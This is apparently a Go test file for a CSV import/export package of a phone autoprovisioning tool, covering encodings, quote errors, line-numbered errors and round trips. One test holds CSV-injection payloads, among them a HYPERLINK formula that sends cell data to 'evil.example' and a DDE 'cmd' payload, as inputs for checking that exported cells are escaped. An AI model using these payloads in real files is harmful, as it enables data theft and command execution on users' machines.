package csvio

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/autoprov/autoprov"
)

const sheet = `mac,model,label,extension,display_name,password
80-5E-C0-AA-BB-01,T54W,Reception,201,Alice Example,
80-5E-C0-AA-BB-01,,,202,Bob Example,
805ec0aabb02,T57W,"Desk, upstairs",203,"Carol ""CJ"" Example",Secret-pass-1
,,,204,Dave (no phone),
0004.13aa.bb03,D785,,,,
`

func TestRead(t *testing.T) {
	im, err := Read(strings.NewReader(sheet))
	if err != nil {
		t.Fatal(err)
	}
	in := im.Input
	if len(in.Accounts) != 4 || len(in.Devices) != 3 {
		t.Fatalf("%d accounts, %d devices", len(in.Accounts), len(in.Devices))
	}
	d := in.Devices[0]
	if *d.MAC != "805ec0aabb01" || *d.Model != "T54W" || *d.Label != "Reception" || strings.Join(*d.Accounts, ",") != "201,202" {
		t.Fatalf("device 0 %+v", d)
	}
	if *in.Devices[1].Label != "Desk, upstairs" || *in.Accounts[2].DisplayName != `Carol "CJ" Example` || *in.Accounts[2].Password != "Secret-pass-1" {
		t.Fatalf("quoting: %+v %+v", in.Devices[1], in.Accounts[2])
	}
	if in.Accounts[0].Password != nil || in.Accounts[0].AuthUser != nil {
		t.Fatal("an empty cell set a field")
	}
	if d := in.Devices[2]; *d.MAC != "000413aabb03" || len(*d.Accounts) != 0 {
		t.Fatalf("device without accounts %+v", d)
	}
	if fmt.Sprint(im.AccountLines, im.DeviceLines) != "[2 3 4 5] [2 4 6]" {
		t.Fatalf("lines %v %v", im.AccountLines, im.DeviceLines)
	}
}

func TestReadSemicolonsAndBOM(t *testing.T) {
	// As a German spreadsheet saves "CSV UTF-8".
	src := "\ufeffMAC;Model;Extension;Display_Name\r\n80:5e:c0:aa:bb:01;T54W;201;Jürgen Müller\r\n"
	im, err := Read(strings.NewReader(src))
	if err != nil {
		t.Fatal(err)
	}
	if *im.Input.Devices[0].MAC != "805ec0aabb01" || *im.Input.Accounts[0].DisplayName != "Jürgen Müller" {
		t.Fatalf("%+v", im.Input)
	}
}

func TestReadWindows1252(t *testing.T) {
	// As Excel saves plain "CSV" on a German Windows: Windows-1252.
	src := "MAC;Model;Extension;Display_Name\r\n80:5e:c0:aa:bb:01;T54W;201;J\xfcrgen M\xfcller \x80\r\n80:5e:c0:aa:bb:02;T54W;202;Stra\xdfe\r\n"
	im, err := Read(strings.NewReader(src))
	if err != nil {
		t.Fatal(err)
	}
	if got := *im.Input.Accounts[0].DisplayName; got != "Jürgen Müller €" {
		t.Fatalf("display name %q", got)
	}
	if got := *im.Input.Accounts[1].DisplayName; got != "Straße" {
		t.Fatalf("display name %q", got)
	}
	// A file that says it is UTF-8 (its byte order mark) is not guessed at:
	// a byte that is no UTF-8 stays as it is, for the core to refuse.
	im, err = Read(strings.NewReader("\ufeff" + src))
	if err != nil {
		t.Fatal(err)
	}
	if got := *im.Input.Accounts[0].DisplayName; utf8.ValidString(got) {
		t.Fatalf("a UTF-8 file (byte order mark) had its bad byte read as Windows-1252: %q", got)
	}
}

func lines(err error) string {
	var e *Error
	if !errors.As(err, &e) {
		return fmt.Sprintf("not an *Error: %v", err)
	}
	var out []string
	for _, l := range e.Errors {
		out = append(out, fmt.Sprintf("%d:%s", l.Line, l.Field))
	}
	return strings.Join(out, " ")
}

func TestReadErrorsByLine(t *testing.T) {
	for _, c := range []struct{ src, want string }{
		{"mac,model,extension\n805ec0aabb01,T54W,201\n80:5e:c0:zz:bb:02,T54W,202\n805ec0aabb03,T54W,203\n", "3:mac"},
		{"mac,model,colour\n", "1:colour"},
		{"model,label\n", "1:"},
		{"mac,model\n805ec0aabb01,T54W,extra\n", "2:"},
		{"mac,model,extension\n805ec0aabb01,T54W,201\n805ec0aabb01,T57W,202\n", "3:model"},
		{"mac,extension,display_name\n805ec0aabb01,201,Alice\n805ec0aabb02,201,Alicia\n", "3:display_name"},
		{"mac,extension\n805ec0aabb01,201\n805ec0aabb01,201\n", "3:extension"},
		{"mac,model\n,T54W\n", "2:"},
		{"", "1:"},
		{"mac,model\n\"805ec0aabb01,T54W\n", "2:"},
	} {
		_, err := Read(strings.NewReader(c.src))
		if got := lines(err); got != c.want {
			t.Errorf("%q: errors %s, want %s (%v)", c.src, got, c.want, err)
		}
	}
}

// TestReadQuoteErrors: a stray quote's line says the reader's own words
// (the API's English, as before), and carries them as a Text of its own
// (not "%v" of the error), so the UI can translate it.
func TestReadQuoteErrors(t *testing.T) {
	for src, want := range map[string]string{
		"mac,model\n805ec0aabb01,T5\"4W\n":    `bare " in non-quoted-field`,
		"mac,model\n805ec0aabb01,\"T54W\"x\n": `extraneous or missing " in quoted-field`,
	} {
		_, err := Read(strings.NewReader(src))
		var e *Error
		if !errors.As(err, &e) || len(e.Errors) != 1 {
			t.Fatalf("%q: %v, want one bad line", src, err)
		}
		if l := e.Errors[0]; l.Line != 2 || l.Message != want || l.Text.Format != want || len(l.Text.Args) != 0 {
			t.Errorf("%q: %+v, want line 2 saying %q as its own Text", src, l, want)
		}
	}
}

// TestReadHeaderQuoteErrors: a stray quote in the header line says what
// encoding/csv says, byte for byte (the API's English, as before), but as
// a Text of its own, line and column its arguments and the quoting error
// a Text inside (not "%v" of the error), so the UI can translate it; a
// header whose quoted field runs over a line break names both lines.
func TestReadHeaderQuoteErrors(t *testing.T) {
	for _, c := range []struct{ src, want, format string }{
		{"mac,mo\"del\n805ec0aabb01,T54W\n", `parse error on line 1, column 7: bare " in non-quoted-field`,
			"parse error on line %d, column %d: %v"},
		{"mac,\"model\"x\n805ec0aabb01,T54W\n", `parse error on line 1, column 11: extraneous or missing " in quoted-field`,
			"parse error on line %d, column %d: %v"},
		{"mac,\"mo\ndel\"x\n805ec0aabb01,T54W\n", `record on line 1; parse error on line 2, column 4: extraneous or missing " in quoted-field`,
			"record on line %d; parse error on line %d, column %d: %v"},
	} {
		_, err := Read(strings.NewReader(c.src))
		var e *Error
		if !errors.As(err, &e) || len(e.Errors) != 1 {
			t.Fatalf("%q: %v, want one bad line", c.src, err)
		}
		l := e.Errors[0]
		if l.Line != 1 || l.Message != c.want || l.Text.Format != c.format || l.Text.String() != c.want {
			t.Errorf("%q: %+v, want line 1 saying %q as a Text of %q", c.src, l, c.want, c.format)
		}
		if n := len(l.Text.Args); n == 0 {
			t.Errorf("%q: no arguments", c.src)
		} else if why, ok := l.Text.Args[n-1].(autoprov.Text); !ok || why.Args != nil {
			t.Errorf("%q: the quoting error is %#v, want a Text of its own", c.src, l.Text.Args[n-1])
		}
	}
}

func TestLinesOfCoreErrors(t *testing.T) {
	im, err := Read(strings.NewReader(sheet))
	if err != nil {
		t.Fatal(err)
	}
	e := im.Lines(&autoprov.BulkError{Errors: []autoprov.BulkRowError{{Kind: "device", Index: 1, Field: "model", Message: "unknown"},
		{Kind: "account", Index: 3, Field: "display_name", Message: "bad"}, {Kind: "device", Index: 0, Field: "accounts", Message: "x"}}})
	if got := lines(e); got != "2:extension 4:model 5:display_name" {
		t.Fatal(got)
	}
}

func TestWriteReadsBack(t *testing.T) {
	accounts := []autoprov.Account{{Extension: "201", DisplayName: "Alice, \"A\"", AuthUser: "201", Password: "never-written-1"},
		{Extension: "202", DisplayName: "Bob", AuthUser: "bob", Password: "never-written-2"}, {Extension: "204", AuthUser: "204"}}
	devices := []autoprov.Device{
		{MAC: "805ec0aabb01", Vendor: "yealink", Model: "T54W", Label: "Reception", KeyProfile: "sales", State: autoprov.StateAssigned, Accounts: []string{"201", "202"}},
		{MAC: "805ec0aabb02", Vendor: "yealink", Model: "T57W", State: autoprov.StateAssigned},
		{MAC: "805ec0aabb09", State: autoprov.StateUnassigned},
	}
	var b bytes.Buffer
	if err := Write(&b, accounts, devices); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if strings.Contains(out, "never-written") || strings.Contains(out, "805ec0aabb09") || strings.Contains(out, "80:5E:C0:AA:BB:09") {
		t.Fatalf("a password or an unassigned device in the export:\n%s", out)
	}
	want := `mac,vendor,model,label,key_profile,extension,display_name,auth_user,password
80:5e:c0:aa:bb:01,yealink,T54W,Reception,sales,201,"Alice, ""A""",201,
80:5e:c0:aa:bb:01,yealink,T54W,Reception,sales,202,Bob,bob,
80:5e:c0:aa:bb:02,yealink,T57W,,,,,,
,,,,,204,,204,
`
	if out != want {
		t.Fatalf("export:\n%s\nwant:\n%s", out, want)
	}
	im, err := Read(strings.NewReader(out))
	if err != nil {
		t.Fatal(err)
	}
	if len(im.Input.Devices) != 2 || strings.Join(*im.Input.Devices[0].Accounts, ",") != "201,202" || *im.Input.Devices[0].KeyProfile != "sales" ||
		len(im.Input.Accounts) != 3 || *im.Input.Accounts[0].DisplayName != `Alice, "A"` || im.Input.Accounts[0].Password != nil {
		t.Fatalf("read back %+v", im.Input)
	}
}

// BenchmarkRead10000 reads a 10,000-row sheet (issue [13]: 10,000 rows
// import in seconds; this is the parsing share).
func BenchmarkRead10000(b *testing.B) {
	var src strings.Builder
	src.WriteString("mac,model,label,extension,display_name\n")
	for i := range 10000 {
		fmt.Fprintf(&src, "80:5e:c0:%02x:%02x:%02x,T54W,Desk %d,%d,User %d\n", i>>16, (i>>8)&0xff, i&0xff, i, 10000+i, i)
	}
	b.ResetTimer()
	for b.Loop() {
		if _, err := Read(strings.NewReader(src.String())); err != nil {
			b.Fatal(err)
		}
	}
}

// TestWriteGuardsFormulas: a label or display name a spreadsheet would run
// as a formula (CSV injection) is written with a leading "'", and reads
// back as it was.
func TestWriteGuardsFormulas(t *testing.T) {
	evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "'=quoted"}
	var accounts []autoprov.Account
	var devices []autoprov.Device
	for i, e := range evil {
		ext := fmt.Sprintf("+49%d", 200+i)
		accounts = append(accounts, autoprov.Account{Extension: ext, DisplayName: e, AuthUser: ext})
		devices = append(devices, autoprov.Device{MAC: fmt.Sprintf("805ec0aabb%02x", i), Vendor: "yealink", Model: "T54W",
			Label: e, KeyProfile: e, State: autoprov.StateAssigned, Accounts: []string{ext}})
	}
	var b bytes.Buffer
	if err := Write(&b, accounts, devices); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs[1:] {
		for i, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("column %s: cell %q would run as a formula", Columns[i], cell)
			}
		}
	}
	im, err := Read(strings.NewReader(b.String()))
	if err != nil {
		t.Fatal(err)
	}
	for i, e := range evil {
		d, a := im.Input.Devices[i], im.Input.Accounts[i]
		if *d.Label != e || *d.KeyProfile != e || *a.DisplayName != e || *a.Extension != fmt.Sprintf("+49%d", 200+i) {
			t.Errorf("read back %q: label %q, key profile %q, display name %q, extension %q", e, *d.Label, *d.KeyProfile, *a.DisplayName, *a.Extension)
		}
	}
}
